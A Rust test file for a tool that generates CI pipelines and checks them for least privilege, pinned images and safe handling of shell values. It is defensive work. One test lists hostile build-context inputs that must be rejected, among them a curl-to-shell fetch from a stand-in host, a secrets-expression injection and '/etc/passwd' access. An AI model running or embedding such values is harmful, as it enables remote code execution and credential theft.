//! The image pipeline's CI files: they parse, have the pinned, least-privilege shape, and
//! no value from the spec reaches a shell line or a `${{ }}` expression except through
//! the environment.

use serde_yaml::Value;

use crate::support::{DIGEST, render_text};

const GITHUB: &str = "ci/github/build-scan-push.yml";
const GITLAB: &str = "ci/gitlab/.gitlab-ci.yml";

fn spec(ci: &str, images: &[(&str, &str)], extra: &str) -> String {
    let mut s = format!(
        "version: 1\nregistries: [registry.example.com/team/, ghcr.io/acme/]\nsupplyChain: {{ ciPipeline: {ci} }}\nnamespaces:\n  - name: shop\napps:\n"
    );
    for (name, image) in images {
        s.push_str(&format!(
            "  - name: {name}\n    namespace: shop\n    image: {image}@{DIGEST}\n{extra}"
        ));
    }
    s
}

fn two_images(ci: &str) -> Vec<(String, String)> {
    render_text(&spec(
        ci,
        &[
            ("web", "registry.example.com/team/web:1.0"),
            ("api", "ghcr.io/acme/api:2.0"),
        ],
        "",
    ))
}

fn file<'a>(files: &'a [(String, String)], path: &str) -> &'a str {
    &files
        .iter()
        .find(|(p, _)| p == path)
        .unwrap_or_else(|| panic!("{path} not rendered"))
        .1
}

fn parse(text: &str) -> Value {
    serde_yaml::from_str(text).unwrap_or_else(|e| panic!("not YAML: {e}\n{text}"))
}

fn map(v: &Value) -> Vec<(String, &Value)> {
    v.as_mapping()
        .unwrap_or_else(|| panic!("not a mapping: {v:?}"))
        .iter()
        .map(|(k, v)| (k.as_str().unwrap_or_default().to_string(), v))
        .collect()
}

fn str_of(v: &Value) -> &str {
    v.as_str().unwrap_or_else(|| panic!("not a string: {v:?}"))
}

fn is_hex(s: &str, len: usize) -> bool {
    s.len() == len
        && s.chars()
            .all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c))
}

/// `name@sha256:<64 hex>`, optionally with a tag before the `@`.
fn digest_pinned(image: &str) -> bool {
    image
        .rsplit_once("@sha256:")
        .is_some_and(|(_, d)| is_hex(d, 64))
}

#[test]
fn github_workflow_has_the_pinned_least_privilege_shape() {
    let files = two_images("github");
    let text = file(&files, GITHUB);
    let w = parse(text);
    assert_eq!(
        w["permissions"],
        parse("{}"),
        "no workflow-wide permissions"
    );
    assert!(str_of(&w["on"]["schedule"][0]["cron"]).split(' ').count() == 5);
    assert!(w["on"].get("pull_request_target").is_none());
    assert!(w["concurrency"]["group"].is_string());
    assert!(digest_pinned(str_of(&w["env"]["TRIVY_IMAGE"])));
    let jobs = map(&w["jobs"]);
    let ids: Vec<&str> = jobs.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(ids, ["image-web", "image-api", "check"]);
    for (id, job) in &jobs {
        let perms = map(&job["permissions"]);
        let want_packages = *id == "image-api";
        let expected: Vec<(&str, &str)> = if want_packages {
            vec![("contents", "read"), ("packages", "write")]
        } else {
            vec![("contents", "read")]
        };
        let got: Vec<(&str, &str)> = perms.iter().map(|(k, v)| (k.as_str(), str_of(v))).collect();
        assert_eq!(got, expected, "{id}: least privilege");
        for step in job["steps"].as_sequence().unwrap() {
            if let Some(uses) = step.get("uses") {
                let (_, sha) = str_of(uses).split_once('@').unwrap();
                assert!(
                    is_hex(sha, 40),
                    "{id}: `{uses:?}` is not pinned by commit SHA"
                );
                assert_eq!(step["with"]["persist-credentials"], Value::Bool(false));
            }
            if let Some(run) = step.get("run") {
                let run = str_of(run);
                assert!(!run.contains("${{"), "{id}: expression inline in `{run}`");
                assert!(!run.contains("secrets"), "{id}: secret inline in `{run}`");
            }
        }
    }
    for line in text.lines().filter(|l| l.contains("uses:")) {
        assert!(line.contains(" # v"), "the pin says which version: {line}");
    }
    assert_eq!(w["jobs"]["check"]["needs"], parse("[image-web, image-api]"));
}

/// The step of `job` whose `run:` contains `needle`, and its index.
fn step_with<'a>(job: &'a Value, needle: &str) -> (usize, &'a Value) {
    job["steps"]
        .as_sequence()
        .unwrap()
        .iter()
        .enumerate()
        .find(|(_, s)| {
            s.get("run")
                .and_then(Value::as_str)
                .is_some_and(|r| r.contains(needle))
        })
        .unwrap_or_else(|| panic!("no step runs `{needle}`"))
}

#[test]
fn github_builds_scans_then_pushes_only_on_pass_and_prints_the_digest() {
    let files = two_images("github");
    let w = parse(file(&files, GITHUB));
    let job = &w["jobs"]["image-web"];
    assert_eq!(job["env"]["IMAGE"], "registry.example.com/team/web");
    assert_eq!(job["env"]["REGISTRY"], "registry.example.com");
    assert_eq!(job["env"]["CONTEXT"], "web");
    let (build, _) = step_with(job, "docker build");
    let (scan, s) = step_with(job, "image --input");
    let run = str_of(&s["run"]);
    for flag in [
        "--exit-code 1",
        "--severity CRITICAL,HIGH",
        "--ignore-unfixed",
    ] {
        assert!(run.contains(flag), "{flag}");
    }
    let (login, l) = step_with(job, "docker login");
    assert!(str_of(&l["run"]).contains("--password-stdin"));
    assert_eq!(
        l["env"]["REGISTRY_PASSWORD"],
        "${{ secrets.REGISTRY_PASSWORD }}"
    );
    let (push, p) = step_with(job, "docker push");
    assert!(str_of(&p["run"]).contains("echo \"pushed $APP: $IMAGE@$digest\""));
    assert!(build < scan && scan < login && login < push);
    // Steps run in order and stop at the first failure: a failed scan never pushes.
    for s in [l, p] {
        assert_eq!(s["if"], "github.event_name != 'pull_request'");
    }
    let ghcr = &w["jobs"]["image-api"];
    let (_, l) = step_with(ghcr, "docker login");
    assert_eq!(l["env"]["REGISTRY_PASSWORD"], "${{ secrets.GITHUB_TOKEN }}");
    let (_, c) = step_with(&w["jobs"]["check"], "kubeward check");
    assert_eq!(str_of(&c["run"]), "kubeward check -- \"$MANIFESTS\"");
}

#[test]
fn gitlab_file_pins_images_and_pushes_only_after_the_scan() {
    let files = two_images("gitlab");
    assert!(!files.iter().any(|(p, _)| p == GITHUB));
    let g = parse(file(&files, GITLAB));
    assert_eq!(g["stages"], parse("[build, scan, push, check]"));
    let jobs = map(&g);
    let mut images = 0;
    for (id, job) in &jobs {
        let Some(job) = job.as_mapping().map(|_| *job) else {
            continue;
        };
        let image = job.get("image").map(|i| i.get("name").unwrap_or(i));
        if let Some(image) = image {
            assert!(digest_pinned(str_of(image)), "{id}: {image:?}");
            images += 1;
        }
        for s in job
            .get("services")
            .and_then(Value::as_sequence)
            .into_iter()
            .flatten()
        {
            assert!(digest_pinned(str_of(&s["name"])), "{id}");
        }
        if let Some(vars) = job.get("variables").filter(|_| id.contains(':')) {
            for (name, v) in map(vars) {
                assert_eq!(
                    v["expand"],
                    Value::Bool(false),
                    "{id}: {name} is not expanded"
                );
            }
        }
    }
    assert!(images >= 4, "docker, trivy and rust images");
    assert_eq!(g["push:web"]["needs"], parse("['build:web', 'scan:web']"));
    assert_eq!(g["push:web"]["stage"], "push");
    assert_eq!(g["scan:web"]["stage"], "scan");
    let rules = &g["push:web"]["rules"][0];
    assert_eq!(rules["when"], "never");
    assert!(str_of(&rules["if"]).contains("merge_request_event"));
    let scan = str_of(&g["scan:api"]["script"][0]);
    assert!(scan.contains("--exit-code 1 --severity CRITICAL,HIGH --ignore-unfixed"));
    assert_eq!(
        g["build:api"]["variables"]["IMAGE"]["value"],
        "ghcr.io/acme/api"
    );
}

/// Every shell line of both files: GitHub `run:` and GitLab `script:`/`after_script:`.
fn shell_lines(files: &[(String, String)]) -> Vec<String> {
    let mut out = Vec::new();
    let gh = parse(file(files, GITHUB));
    for (_, job) in map(&gh["jobs"]) {
        for s in job["steps"].as_sequence().unwrap() {
            out.extend(s.get("run").and_then(Value::as_str).map(str::to_string));
        }
    }
    out
}

#[test]
fn spec_values_reach_the_shell_only_through_the_environment() {
    let files = render_text(&spec(
        "github",
        &[("web", "registry.example.com/team/web:1.0")],
        "    buildContext: services/web\n",
    ));
    for line in shell_lines(&files) {
        for value in ["registry.example.com", "services/web", "team/web"] {
            assert!(!line.contains(value), "`{value}` inline in `{line}`");
        }
    }
    let gl = render_text(&spec(
        "gitlab",
        &[("web", "registry.example.com/team/web:1.0")],
        "    buildContext: services/web\n",
    ));
    let g = parse(file(&gl, GITLAB));
    for (id, job) in map(&g) {
        for key in ["script", "after_script"] {
            for line in job
                .get(key)
                .and_then(Value::as_sequence)
                .into_iter()
                .flatten()
            {
                let line = str_of(line);
                assert!(
                    !line.contains("services/web") && !line.contains("registry.example"),
                    "{id}: {line}"
                );
            }
        }
    }
}

#[test]
fn hostile_build_contexts_are_refused_at_the_spec() {
    for hostile in [
        "\"$(curl evil.example | sh)\"",
        "\"${{ secrets.REGISTRY_PASSWORD }}\"",
        "\"a\\n    run: id\"",
        "../outside",
        "/etc",
        "\"--file=/etc/passwd\"",
        "\"x' y\"",
    ] {
        let text = spec(
            "github",
            &[("web", "registry.example.com/team/web:1.0")],
            &format!("    buildContext: {hostile}\n"),
        );
        let errors = kubeward::resolve::parse_resolved("t.yaml", &text)
            .err()
            .unwrap_or_else(|| panic!("{hostile} was accepted"));
        let all = kubeward::diag::render_all(&errors);
        assert!(all.contains("is not a build context"), "{hostile}: {all}");
        assert!(all.contains("help:"), "{all}");
    }
}

#[test]
fn ci_pipeline_warning_only_when_no_choice_is_made() {
    let codes = |text: &str| -> Vec<String> {
        let r = kubeward::resolve::parse_resolved("t.yaml", text).unwrap();
        r.warnings.iter().filter_map(|w| w.code.clone()).collect()
    };
    let image = [("web", "registry.example.com/team/web:1.0")];
    for ci in ["github", "gitlab", "none"] {
        assert!(
            !codes(&spec(ci, &image, "")).contains(&"ci-pipeline".to_string()),
            "{ci}"
        );
    }
    let absent = spec("github", &image, "").replace("supplyChain: { ciPipeline: github }\n", "");
    assert!(codes(&absent).contains(&"ci-pipeline".to_string()));
    let files = render_text(&absent);
    assert!(
        !files.iter().any(|(p, _)| p.starts_with("ci/")),
        "no pipeline unless chosen"
    );
    let none = render_text(&spec("none", &image, ""));
    assert!(!none.iter().any(|(p, _)| p.starts_with("ci/")));
}

#[test]
fn a_pipeline_needs_trusted_registries() {
    let text = format!(
        "version: 1\nsupplyChain: {{ ciPipeline: gitlab }}\nnamespaces:\n  - name: shop\napps:\n  - name: web\n    namespace: shop\n    image: registry.example.com/web:1.0@{DIGEST}\n"
    );
    let errors = kubeward::resolve::parse_resolved("t.yaml", &text).unwrap_err();
    let all = kubeward::diag::render_all(&errors);
    assert!(all.contains("pushes to the trusted registries"), "{all}");
}

#[test]
fn ci_files_are_neither_applied_nor_schema_checked() {
    let files = two_images("github");
    let k = parse(file(&files, "kustomization.yaml"));
    let listed: Vec<&str> = k["resources"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(str_of)
        .collect();
    assert!(!listed.iter().any(|p| p.starts_with("ci/")), "{listed:?}");
    let text = spec(
        "gitlab",
        &[("web", "registry.example.com/team/web:1.0")],
        "",
    );
    let r = kubeward::resolve::parse_resolved("t.yaml", &text).unwrap();
    let templates = kubeward::render::embedded().unwrap();
    let b = kubeward::bundle::render(&r.model, r.warnings, templates).unwrap();
    assert!(
        b.report.skipped.is_empty(),
        "the checker never saw the CI file: {:?}",
        b.report.skipped
    );
    assert!(b.files.iter().any(|(p, _)| p == GITLAB));
    let readme = file(&files, "README.md");
    for needle in [
        "## Image pipeline",
        "REGISTRY_PASSWORD",
        "KUBEWARD_MANIFESTS",
        "### Rolling out a new image",
        "kubeward-trusted-images",
    ] {
        assert!(readme.contains(needle), "{needle}");
    }
}
